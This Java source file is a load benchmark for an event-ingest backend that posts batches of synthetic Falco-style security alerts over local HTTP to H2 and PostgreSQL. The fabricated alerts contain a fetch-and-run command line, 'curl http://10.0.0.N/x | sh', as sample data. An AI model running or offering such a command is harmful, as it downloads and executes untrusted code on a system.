package dev.peregrine.bench.backend;

import dev.peregrine.backend.Backend;
import dev.peregrine.backend.BackendConfig;
import dev.peregrine.backend.devdb.LocalPostgres;
import dev.peregrine.protocol.Alert;
import dev.peregrine.protocol.ProtocolJson;
import dev.peregrine.protocol.Workload;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.PrintStream;
import java.io.UncheckedIOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicLong;
import java.util.zip.GZIPOutputStream;

/**
 * Event ingest throughput of the backend over real HTTP: several orchestrator-like clients post
 * batches of unique alerts to {@code POST /api/v1/events} for a fixed time, against the embedded
 * H2 file database and against a local PostgreSQL (durable settings: fsync on).
 *
 * <pre>bench/run-ingest.sh [--db h2|postgresql|both] [--seconds 10] [--clients 4] [--batch 500] [--gzip]</pre>
 */
public final class IngestBenchmark {
    public static final double TARGET_EVENTS_PER_SECOND = 20_000;
    private static final String ADMIN = "bench-admin-token-0123456789";
    private static final String BATCH_MARK = "BATCHNUMBER0";

    public record Options(List<String> databases, Duration warmup, Duration measure, int clients, int batch, boolean gzip) {
        static Options parse(String[] args) {
            List<String> dbs = List.of("h2", "postgresql");
            int seconds = 10;
            int warm = 3;
            int clients = 4;
            int batch = 500;
            boolean gzip = false;
            for (int i = 0; i < args.length; i++) {
                switch (args[i]) {
                    case "--db" -> dbs = args[++i].equals("both") ? List.of("h2", "postgresql") : List.of(args[i]);
                    case "--seconds" -> seconds = Integer.parseInt(args[++i]);
                    case "--warmup" -> warm = Integer.parseInt(args[++i]);
                    case "--clients" -> clients = Integer.parseInt(args[++i]);
                    case "--batch" -> batch = Integer.parseInt(args[++i]);
                    case "--gzip" -> gzip = true;
                    default -> throw new IllegalArgumentException("unknown option " + args[i]
                            + "; use --db h2|postgresql|both --seconds N --warmup N --clients N --batch N --gzip");
                }
            }
            return new Options(dbs, Duration.ofSeconds(warm), Duration.ofSeconds(seconds), clients, batch, gzip);
        }
    }

    /** One run: events accepted in the measured window, and what the database holds afterwards. */
    public record Result(String database, long events, double seconds, double cpuSeconds, double clientCpuSeconds,
                         long stored, long totalSent) {
        public double eventsPerSecond() {
            return events / seconds;
        }

        /**
         * Events per second the run could sustain on all of the machine's cores, from the CPU time
         * it used: backend, clients and database server together. On a machine shared with other
         * work the wall-clock rate understates the backend; this figure does not.
         */
        public double eventsPerCpuSecondAllCores() {
            return cpuSeconds <= 0 ? Double.NaN : events / cpuSeconds * Runtime.getRuntime().availableProcessors();
        }

        /** The same without the benchmark's own clients: what the backend and its database cost. */
        public double serverEventsPerCpuSecondAllCores() {
            double server = cpuSeconds - clientCpuSeconds;
            return server <= 0 ? Double.NaN : events / server * Runtime.getRuntime().availableProcessors();
        }
    }

    public static void main(String[] args) throws Exception {
        Options options = Options.parse(args);
        Path root = Path.of(System.getProperty("peregrine.root", "."));
        List<Result> results = new ArrayList<>();
        for (String db : options.databases()) {
            Path dir = Files.createTempDirectory("peregrine-bench-");
            switch (db) {
                case "h2" -> results.add(run("h2", null, dir, options, -1));
                case "postgresql" -> {
                    try (LocalPostgres pg = LocalPostgres.start(root, true)) {
                        results.add(run("postgresql", pg.createDatabase("bench"), dir, options, pg.serverPid()));
                    }
                }
                default -> throw new IllegalArgumentException("--db must be h2, postgresql or both, got " + db);
            }
            try (var paths = Files.walk(dir)) {
                paths.sorted(java.util.Comparator.reverseOrder()).forEach(p -> p.toFile().delete());
            }
        }
        System.out.printf("%nIngest over HTTP, %d clients, batches of %d%s, %d s measured after %d s warm-up%n",
                options.clients(), options.batch(), options.gzip() ? " (gzip)" : "", options.measure().toSeconds(),
                options.warmup().toSeconds());
        System.out.printf("load average at the end: %.2f on %d cores%n",
                java.lang.management.ManagementFactory.getOperatingSystemMXBean().getSystemLoadAverage(),
                Runtime.getRuntime().availableProcessors());
        System.out.println("events/s: wall clock; cpu-bound: events per CPU-second times cores, with and without the clients' CPU");
        System.out.printf("%-12s %12s %16s %18s %12s %10s%n", "database", "events/s", "cpu-bound all", "cpu-bound server", "target",
                "wall status");
        for (Result r : results) {
            System.out.printf("%-12s %,12.0f %,16.0f %,18.0f %,12.0f %10s%n", r.database(), r.eventsPerSecond(),
                    r.eventsPerCpuSecondAllCores(), r.serverEventsPerCpuSecondAllCores(), TARGET_EVENTS_PER_SECOND,
                    r.eventsPerSecond() >= TARGET_EVENTS_PER_SECOND ? "ok" : "BELOW");
        }
    }

    /**
     * @param dbServerPid the database server's process, whose CPU time is charged to the run too; -1 when embedded
     */
    public static Result run(String name, String dbUrl, Path dataDir, Options options, long dbServerPid) throws Exception {
        BackendConfig config = BackendConfig.defaults().withHost("127.0.0.1").withPort(0).withDb(dbUrl, dataDir)
                .withAdminToken(ADMIN).withAnnounce(new PrintStream(OutputStream.nullOutputStream()));
        try (Backend backend = Backend.start(config)) {
            String base = "http://127.0.0.1:" + backend.port();
            HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();
            String key = accessKey(http, base);
            BatchTemplate template = new BatchTemplate(ProtocolJson.writeBytes(batchTemplate(options.batch())));
            AtomicLong batchNumbers = new AtomicLong();
            AtomicLong measured = new AtomicLong();
            AtomicLong sent = new AtomicLong();
            AtomicBoolean measuring = new AtomicBoolean();
            AtomicBoolean running = new AtomicBoolean(true);
            List<Thread> clients = new ArrayList<>();
            List<Throwable> failures = java.util.Collections.synchronizedList(new ArrayList<>());
            for (int c = 0; c < options.clients(); c++) {
                clients.add(Thread.ofPlatform().name("bench-client-" + c).start(() -> {
                    try {
                        while (running.get()) {
                            byte[] json = template.batch(batchNumbers.getAndIncrement());
                            int accepted = post(http, base, key, json, options.gzip());
                            sent.addAndGet(accepted);
                            if (measuring.get()) {
                                measured.addAndGet(accepted);
                            }
                        }
                    } catch (Throwable t) {
                        failures.add(t);
                        running.set(false);
                    }
                }));
            }
            Thread.sleep(options.warmup().toMillis());
            var os = (com.sun.management.OperatingSystemMXBean) java.lang.management.ManagementFactory.getOperatingSystemMXBean();
            measuring.set(true);
            long t0 = System.nanoTime();
            long cpu0 = os.getProcessCpuTime();
            Map<Long, Long> client0 = clientThreadCpu();
            double dbCpu0 = ProcessTreeCpu.seconds(dbServerPid);
            Thread.sleep(options.measure().toMillis());
            measuring.set(false);
            double seconds = (System.nanoTime() - t0) / 1e9;
            double cpuSeconds = (os.getProcessCpuTime() - cpu0) / 1e9
                    + (ProcessTreeCpu.seconds(dbServerPid) - dbCpu0);
            Map<Long, Long> client1 = clientThreadCpu();
            double clientCpuSeconds = client1.entrySet().stream()
                    .mapToLong(e -> e.getValue() - client0.getOrDefault(e.getKey(), 0L)).sum() / 1e9;
            running.set(false);
            for (Thread t : clients) {
                t.join();
            }
            if (!failures.isEmpty()) {
                throw new IllegalStateException("a client failed", failures.getFirst());
            }
            return new Result(name, measured.get(), seconds, cpuSeconds, clientCpuSeconds, backend.events().total(), sent.get());
        }
    }

    /** CPU nanoseconds of the benchmark's client threads and the HTTP client's own threads, by thread id. */
    private static Map<Long, Long> clientThreadCpu() {
        var threads = java.lang.management.ManagementFactory.getThreadMXBean();
        Map<Long, Long> out = new java.util.HashMap<>();
        for (var info : threads.getThreadInfo(threads.getAllThreadIds())) {
            if (info != null && (info.getThreadName().startsWith("bench-client-") || info.getThreadName().startsWith("HttpClient-"))) {
                long cpu = threads.getThreadCpuTime(info.getThreadId());
                if (cpu >= 0) {
                    out.put(info.getThreadId(), cpu);
                }
            }
        }
        return out;
    }

    private static String accessKey(HttpClient http, String base) throws IOException, InterruptedException {
        HttpResponse<String> r = http.send(HttpRequest.newBuilder(URI.create(base + "/api/v1/access-keys"))
                .header("Authorization", "Bearer " + ADMIN).header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString("{\"name\":\"bench\"}")).build(), HttpResponse.BodyHandlers.ofString());
        if (r.statusCode() != 201) {
            throw new IllegalStateException("cannot create an access key: " + r.statusCode() + " " + r.body());
        }
        return ProtocolJson.mapper().readTree(r.body()).get("key").asText();
    }

    /**
     * The JSON of one batch with the positions of the id marks, so each batch gets fresh ids by
     * overwriting twelve digits in a copy: the clients must cost little next to the server.
     */
    static final class BatchTemplate {
        private final byte[] json;
        private final int[] marks;

        BatchTemplate(byte[] json) {
            this.json = json;
            byte[] mark = BATCH_MARK.getBytes(StandardCharsets.US_ASCII);
            List<Integer> found = new ArrayList<>();
            outer:
            for (int i = 0; i + mark.length <= json.length; i++) {
                for (int j = 0; j < mark.length; j++) {
                    if (json[i + j] != mark[j]) {
                        continue outer;
                    }
                }
                found.add(i);
            }
            this.marks = found.stream().mapToInt(Integer::intValue).toArray();
        }

        byte[] batch(long number) {
            byte[] digits = String.format("%012d", number).getBytes(StandardCharsets.US_ASCII);
            byte[] out = json.clone();
            for (int at : marks) {
                System.arraycopy(digits, 0, out, at, digits.length);
            }
            return out;
        }
    }

    private static int post(HttpClient http, String base, String key, byte[] json, boolean gzip)
            throws IOException, InterruptedException {
        HttpRequest.Builder b = HttpRequest.newBuilder(URI.create(base + "/api/v1/events"))
                .header("Authorization", "Bearer " + key).header("Content-Type", "application/json");
        byte[] body = json;
        if (gzip) {
            b.header("Content-Encoding", "gzip");
            body = gzip(body);
        }
        HttpResponse<String> r = http.send(b.POST(HttpRequest.BodyPublishers.ofByteArray(body)).build(),
                HttpResponse.BodyHandlers.ofString());
        if (r.statusCode() != 200) {
            throw new IllegalStateException("ingest answered " + r.statusCode() + ": " + r.body());
        }
        int accepted = ProtocolJson.mapper().readTree(r.body()).get("accepted").asInt();
        if (accepted == 0) {
            throw new IllegalStateException("a batch of new alerts was taken for duplicates: " + r.body());
        }
        return accepted;
    }

    private static byte[] gzip(byte[] data) {
        ByteArrayOutputStream out = new ByteArrayOutputStream(data.length / 4);
        try (GZIPOutputStream gz = new GZIPOutputStream(out)) {
            gz.write(data);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    /** A batch of alerts shaped like Falco's, about 1 KB each; ids carry a mark replaced per batch. */
    static List<Alert> batchTemplate(int size) {
        Instant now = Instant.now();
        String[] rules = {"Terminal shell in container", "Read sensitive file untrusted", "Drop and execute new binary in container",
                "Contact K8S API Server From Container", "Search Private Keys or Passwords"};
        String[] priorities = {"Notice", "Warning", "Critical", "Notice", "Warning"};
        List<Alert> alerts = new ArrayList<>(size);
        for (int i = 0; i < size; i++) {
            int r = i % rules.length;
            Map<String, Object> fields = new LinkedHashMap<>();
            fields.put("container.id", "3ad7b26ded6d");
            fields.put("evt.time", now.toEpochMilli() * 1_000_000L + i);
            fields.put("evt.type", "execve");
            fields.put("proc.cmdline", "bash -c curl http://10.0.0." + (i % 250) + "/x | sh");
            fields.put("proc.name", "bash");
            fields.put("proc.pid", 4000 + i);
            fields.put("proc.pname", "node");
            fields.put("user.name", "root");
            fields.put("user.uid", 0);
            alerts.add(new Alert(BATCH_MARK + "-" + i, now.plusNanos(i * 1000L).toString(), rules[r], priorities[r],
                    now + ": " + priorities[r] + " " + rules[r] + " (user=root user_loginuid=-1 process=bash proc_exepath=/usr/bin/bash "
                            + "parent=node command=bash -c curl http://10.0.0." + (i % 250) + "/x | sh terminal=34816 exe_flags=EXE_WRITABLE)",
                    fields, "syscall", List.of("maturity_stable", "container", "shell", "mitre_execution", "T1059"),
                    "ip-10-0-1-23.eu-west-1.compute.internal", "default", List.of("notify"),
                    new Workload("prod", "arn:aws:ecs:eu-west-1:123456789012:task/prod/0f9e8d7c6b5a4" + (i % 10),
                            "checkout", "app", "123456789012.dkr.ecr.eu-west-1.amazonaws.com/checkout:1.4.2", "eu-west-1a")));
        }
        return alerts;
    }
}
